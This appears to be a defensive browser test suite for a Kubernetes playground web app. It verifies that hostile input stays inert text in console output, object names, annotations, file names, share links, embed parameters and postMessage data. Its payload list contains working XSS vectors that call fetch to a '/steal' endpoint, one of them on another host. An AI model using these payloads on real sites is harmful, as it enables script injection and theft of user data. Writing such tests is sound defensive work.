// Hostile input: HTML and script in console lines, object names, labels and annotations, file names
// and contents, share links, embed URL parameters and postMessage data. Nothing a visitor opens may
// execute anything: every payload shows as text, no element is injected, no dialog opens, and no
// exfiltration request (to /steal on this server or to another host) is ever made.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { BASE_URL, launch, ready, run } from './helpers.mjs';

let browser;
before(async () => {
  browser = await launch();
});
after(async () => {
  await browser?.close();
});

/** Each payload tries to set window.__pwned and to fetch /steal: either would mean it ran. */
const PAYLOADS = [
  `<img src=x onerror="window.__pwned=1;fetch('/steal?img')">`,
  `<script>window.__pwned=1;fetch('/steal?script')</script>`,
  `<svg onload="window.__pwned=1;fetch('/steal?svg')">`,
  `"><img src=x onerror=fetch('/steal?attr')>`,
  `'><iframe src="javascript:parent.__pwned=1;fetch('/steal?iframe')">`,
  `javascript:window.__pwned=1;fetch('/steal?js')`,
  `<a href="javascript:fetch('/steal?a')" id=pwnlink>click</a>`,
  `<body onload=fetch('/steal?body')>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=fetch('/steal?mxss')>`,
  `<input autofocus onfocus="window.__pwned=1;fetch('/steal?focus')">`,
  `<details open ontoggle="window.__pwned=1;fetch('//127.0.0.2:9/steal?details')">`,
  `<object data="javascript:fetch('/steal?object')">`,
  `\${fetch('/steal?template')}{{constructor.constructor('window.__pwned=1')()}}`,
];

/** Shell-quotes `s` for a console line (single quotes, as bash reads them). */
const q = (s) => `'${s.replaceAll("'", `'"'"'`)}'`;

/** Elements a payload could have injected, anywhere in the document or its frames. */
async function injected(page) {
  let n = 0;
  for (const frame of page.frames()) {
    n += await frame
      .evaluate(() => document.querySelectorAll('body img, body svg, body script, body iframe:not([title^="kubeplay"]), body object, body math, body details, #pwnlink, body input[autofocus]').length)
      .catch(() => 0);
  }
  return n;
}

async function pwned(page) {
  for (const frame of page.frames()) {
    if (await frame.evaluate(() => window.__pwned !== undefined).catch(() => false)) return true;
  }
  return false;
}

/** A context that records every exfiltration attempt and dialog. */
async function hostileContext() {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const hits = [];
  await context.route(/\/steal/, (route) => {
    hits.push(route.request().url());
    return route.fulfill({ status: 204, body: '' });
  });
  const problems = [];
  context.on('page', (p) => {
    p.on('dialog', (d) => {
      if (!/Delete this file|Start over/.test(d.message())) problems.push(`dialog: ${d.message()}`);
      d.dismiss().catch(() => {});
    });
    p.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  });
  return { context, hits, problems };
}

async function assertSafe(page, hits, problems, what) {
  await page.waitForTimeout(300);
  assert.deepEqual(hits, [], `${what}: exfiltration requests`);
  assert.equal(await pwned(page), false, `${what}: a payload ran`);
  assert.equal(await injected(page), 0, `${what}: an element was injected`);
  assert.deepEqual(problems, [], `${what}: ${problems.join('; ')}`);
}

let uses = 0;

test('payloads in console lines, names, labels, annotations, files and share links stay text', { timeout: 300_000 }, async () => {
  const { context, hits, problems } = await hostileContext();
  let link;
  try {
    const page = await context.newPage();
    await page.goto(new URL('?speed=10', BASE_URL).href, { waitUntil: 'load' });
    await ready(page);
    const editor = page.getByRole('textbox', { name: 'Editor' });
    for (const [i, p] of PAYLOADS.entries()) {
      // A console line: echoed, printed, and as a command name.
      const out = await run(page, `echo ${q(p)}`, { expect: [/./] });
      assert.equal(out[0], p, 'echo prints the payload as text');
      await run(page, q(p), { expect: [/command not found/] });
      // An object name and a label value: the API server's error quotes them.
      const pod = (field) =>
        `apiVersion: v1\nkind: Pod\nmetadata:\n  ${field}\nspec:\n  containers:\n  - name: c\n    image: busybox\n`;
      await page.getByRole('textbox', { name: 'File name' }).fill(`x${i}.yaml`);
      await page.getByRole('button', { name: 'New', exact: true }).click();
      await editor.fill(pod(`name: ${JSON.stringify(p)}`));
      await run(page, `kubectl apply -f x${i}.yaml`, { expect: [/is invalid/] });
      await editor.fill(pod(`name: ok${i}\n  labels:\n    app: ${JSON.stringify(p)}`));
      await run(page, `kubectl apply -f x${i}.yaml`, { expect: [/is invalid/] });
      // An annotation is free text: it is stored, and printed back by -o yaml and jsonpath.
      await editor.fill(pod(`name: ok${i}\n  annotations:\n    note: ${JSON.stringify(p)}`));
      await run(page, `kubectl apply -f x${i}.yaml`, { expect: [/created/] });
      await run(page, `kubectl get pod ok${i} -o jsonpath='{.metadata.annotations.note}'`, { expect: [/./] });
      // A file named after the payload, holding it.
      await page.getByRole('textbox', { name: 'File name' }).fill(`evil/${p.replaceAll('/', '_')}`);
      await page.getByRole('button', { name: 'New', exact: true }).click();
      // Broken YAML (kubectl too says `yaml: line 1: did not find expected key`), so the
      // editor's status shows its diagnostic next to the payload.
      await editor.fill(`x: ${JSON.stringify(p)}\n- [`);
      await page.getByRole('status').getByText(/Line \d+/).waitFor();
      uses += 8;
    }
    await run(page, 'kubectl get pods -o yaml | grep note', { expect: [/note:/] });
    await run(page, 'ls evil', { expect: [/./] });
    await assertSafe(page, hits, problems, 'the page');

    // Everything above, in a share link, opened elsewhere.
    await page.getByRole('button', { name: 'Share', exact: true }).click();
    link = await page.getByRole('textbox', { name: 'Share link' }).inputValue();
    await page.getByRole('button', { name: 'Close' }).click();
  } finally {
    await context.close();
  }
  const other = await hostileContext();
  try {
    const page = await other.context.newPage();
    await page.goto(link, { waitUntil: 'load' });
    await ready(page);
    await page.getByText(PAYLOADS[0], { exact: true }).first().waitFor();
    await assertSafe(page, other.hits, other.problems, 'the opened share link');
    uses += PAYLOADS.length;
    // Payloads as the link itself.
    for (const p of PAYLOADS) {
      await page.goto(`${new URL(BASE_URL).href}#s=${p}`, { waitUntil: 'load' });
      await ready(page);
      await page.getByRole('alert').waitFor();
      uses += 1;
    }
    await assertSafe(page, other.hits, other.problems, 'payloads as links');
  } finally {
    await other.context.close();
  }
});

test('payloads in embed URL parameters and postMessage data stay text', { timeout: 300_000 }, async () => {
  const { context, hits, problems } = await hostileContext();
  try {
    const page = await context.newPage();
    const host = new URL('hostile-embed.html', BASE_URL).href;
    const src = new URL(BASE_URL);
    src.searchParams.set('embed', '1');
    src.searchParams.set('id', PAYLOADS[0]);
    src.searchParams.set('theme', PAYLOADS[1]);
    src.searchParams.set('panes', `console,cluster,${PAYLOADS[2]}`);
    src.searchParams.set('height', PAYLOADS[3]);
    src.searchParams.append('cmd', `echo ${q(PAYLOADS[4])}`);
    src.searchParams.append('cmd', PAYLOADS[5]);
    src.searchParams.set('origin', new URL(BASE_URL).origin);
    uses += 6;
    await page.route(host, (r) =>
      r.fulfill({
        contentType: 'text/html; charset=utf-8',
        body: `<!DOCTYPE html><html><head><link rel="icon" href="data:,">
<script>window.got = []; addEventListener('message', (e) => window.got.push(e.data));</script></head>
<body><iframe id="f" title="kubeplay test" src="${src.href.replaceAll('"', '&quot;')}" style="width:100%;height:500px"></iframe></body></html>`,
      }),
    );
    await page.goto(host, { waitUntil: 'load' });
    const frame = page.frameLocator('#f');
    await frame.getByText(PAYLOADS[4], { exact: true }).waitFor();
    await page.waitForFunction(() => window.got.some((m) => m.type === 'kubeplay:ready'));
    const post = (data) => page.evaluate((data) => document.getElementById('f').contentWindow.postMessage(data, '*'), data);
    for (const [i, p] of PAYLOADS.entries()) {
      await post({ type: 'kubeplay:run', id: p, command: `echo ${q(p)}` });
      await post({ type: 'kubeplay:run', id: i, command: p });
      await post({ type: p, id: p, command: p });
      uses += 3;
    }
    await page.waitForFunction((n) => window.got.filter((m) => m.type === 'kubeplay:done').length >= n, PAYLOADS.length * 2, {
      timeout: 120_000,
    });
    const done = await page.evaluate(() => window.got.filter((m) => m.type === 'kubeplay:done' && typeof m.id === 'string'));
    assert.deepEqual(done.map((m) => m.output), PAYLOADS.map((p) => `${p}\n`), 'replies carry the payloads as data');
    await assertSafe(page, hits, problems, 'the embed');
  } finally {
    await context.close();
  }
  assert.ok(uses >= 50, `only ${uses} payload uses`);
});
